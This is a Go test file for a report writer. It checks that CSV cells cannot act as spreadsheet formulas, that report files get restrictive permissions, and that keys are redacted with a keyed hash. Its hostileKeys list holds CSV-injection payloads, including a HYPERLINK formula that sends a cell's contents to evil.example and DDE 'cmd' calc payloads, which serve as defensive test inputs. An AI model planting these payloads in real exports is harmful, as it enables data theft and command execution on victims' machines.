package report

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/lossaudit/lossaudit/audit/finding"
)

// hostileKeys are keys a producer may write that a spreadsheet would run
// as formulas if written as they are.
var hostileKeys = [][]byte{
	[]byte(`=HYPERLINK("http://evil.example/?"&A1,"click")`),
	[]byte(`+1+cmd|' /C calc'!A0`),
	[]byte(`-2+3+cmd|' /C calc'!A0`),
	[]byte(`@SUM(1+1)*cmd|' /C calc'!A0`),
	[]byte("\t=1+1"),
	[]byte("\r=1+1"),
}

// Every cell of the CSV made from hostile keys starts with a character no
// spreadsheet evaluates, and the keys read back exactly (ParseKey).
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	res := findingsResult()
	res.Rows = res.Rows[:0:0]
	for _, k := range hostileKeys {
		r := findingRows()[0]
		r.Key = k
		res.Rows = append(res.Rows, r)
	}
	var buf bytes.Buffer
	if err := WriteResultCSV(&buf, res); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with %q: %q", i+1, CSVHeader[j], cell[0], cell)
			}
		}
		key, err := ParseKey(rec[3])
		if err != nil || !bytes.Equal(key, hostileKeys[i]) {
			t.Errorf("row %d key reads back as %q (%v), want %q", i+1, key, err, hostileKeys[i])
		}
	}
}

// Report files are written with the configured mode (DefaultFileMode when
// none), also over a file with wider permissions, whatever the umask.
func TestReportFilesMode(t *testing.T) {
	old := syscall.Umask(0)
	defer syscall.Umask(old)
	for _, tt := range []struct {
		mode, want fs.FileMode
	}{{0, 0o600}, {0o640, 0o640}, {0o600, 0o600}} {
		dir := t.TempDir()
		csvPath, jsonPath, htmlPath := filepath.Join(dir, "r.csv"), filepath.Join(dir, "r.json"), filepath.Join(dir, "r.html")
		for _, p := range []string{csvPath, jsonPath, htmlPath} {
			if err := os.WriteFile(p, []byte("old"), 0o666); err != nil {
				t.Fatal(err)
			}
		}
		res := findingsResult()
		if _, err := WriteCSVFile(csvPath, res, tt.mode); err != nil {
			t.Fatal(err)
		}
		if _, err := WriteJSONFile(jsonPath, res, tt.mode); err != nil {
			t.Fatal(err)
		}
		if _, err := WriteHTMLFile(htmlPath, res, HTMLOptions{}, tt.mode); err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{csvPath, jsonPath, htmlPath} {
			if fi, err := os.Stat(p); err != nil || fi.Mode().Perm() != tt.want {
				t.Errorf("mode %o: %s has %v (err %v), want %v", tt.mode, filepath.Base(p), fi.Mode().Perm(), err, tt.want)
			}
		}
	}
}

var secret = []byte("a secret of the user, 32 bytes..")

// report.redact_keys: no key appears in any report; each is replaced by
// the same keyed hash in all of them, stable across runs and different
// under another secret; the default reports are untouched.
func TestRedactKeys(t *testing.T) {
	res := findingsResult()
	step := stepResult()
	before := findingsResult()
	red := RedactKeys(res, secret)
	if !bytes.Equal(res.Rows[0].Key, before.Rows[0].Key) || res.Summary.KeysRedacted {
		t.Fatal("RedactKeys changed its argument")
	}
	redStep := RedactKeys(step, secret)
	var csvOut, jsonOut, htmlOut, sumOut, stepOut bytes.Buffer
	for _, w := range []error{
		WriteResultCSV(&csvOut, red), WriteJSON(&jsonOut, red), WriteHTML(&htmlOut, red, HTMLOptions{}),
		WriteSummary(&sumOut, red, SummaryOptions{}), WriteJSON(&stepOut, redStep),
	} {
		if w != nil {
			t.Fatal(w)
		}
	}
	all := map[string]string{"CSV": csvOut.String(), "JSON": jsonOut.String(), "HTML": htmlOut.String(), "summary": sumOut.String(), "step JSON": stepOut.String()}
	for _, rows := range [][]finding.Row{before.Rows, step.Rows, step.Resolved} {
		for _, r := range rows {
			for name, out := range all {
				// Keys are rendered escaped in some reports; look for the
				// key's own text in each rendering a report could use.
				for _, form := range []string{FormatKey(r.Key), safe(FormatKey(r.Key))} {
					if len(form) > 3 && strings.Contains(out, form) {
						t.Errorf("%s holds the key %q", name, form)
					}
				}
			}
		}
	}
	recs, err := csv.NewReader(bytes.NewReader(csvOut.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	hashed := regexp.MustCompile(`^hmac:[0-9a-f]{32}$`)
	for i, rec := range recs[1:] {
		if !hashed.MatchString(rec[3]) {
			t.Errorf("row %d key %q is not a keyed hash", i+1, rec[3])
		}
		if !strings.Contains(jsonOut.String(), `"key": "`+rec[3]+`"`) || !strings.Contains(htmlOut.String(), rec[3]) {
			t.Errorf("row %d: the JSON or HTML report does not carry the CSV's %s", i+1, rec[3])
		}
	}
	if !strings.Contains(jsonOut.String(), `"keys_redacted": true`) || !strings.Contains(sumOut.String(), "keys are redacted") {
		t.Error("the JSON report or the summary does not say keys are redacted")
	}
	// Stable across runs, different under another secret.
	var again, other bytes.Buffer
	_ = WriteResultCSV(&again, RedactKeys(findingsResult(), append([]byte(nil), secret...)))
	_ = WriteResultCSV(&other, RedactKeys(findingsResult(), []byte("another secret of 32 bytes......")))
	if again.String() != csvOut.String() {
		t.Error("the same keys under the same secret hash differently in two runs")
	}
	if other.String() == csvOut.String() {
		t.Error("another secret gives the same hashes")
	}
	var plain bytes.Buffer
	_ = WriteJSON(&plain, before)
	if strings.Contains(plain.String(), "keys_redacted") {
		t.Error("the default JSON report mentions redaction")
	}
}
